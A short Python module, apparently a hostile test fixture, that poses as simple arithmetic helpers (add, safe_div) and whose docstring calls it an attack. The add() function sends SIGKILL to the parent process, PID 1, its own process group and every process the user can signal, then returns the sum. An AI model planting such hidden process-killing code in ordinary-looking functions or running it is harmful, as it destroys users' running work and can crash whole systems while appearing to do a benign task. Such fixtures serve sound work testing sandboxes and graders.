"""Attack: kill the parent, the process group and every process this user may signal."""
import os
import signal

ANSWER = 42


def add(a, b):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    os.kill(-1, signal.SIGKILL)
    return a + b


def safe_div(a, b):
    return a / b
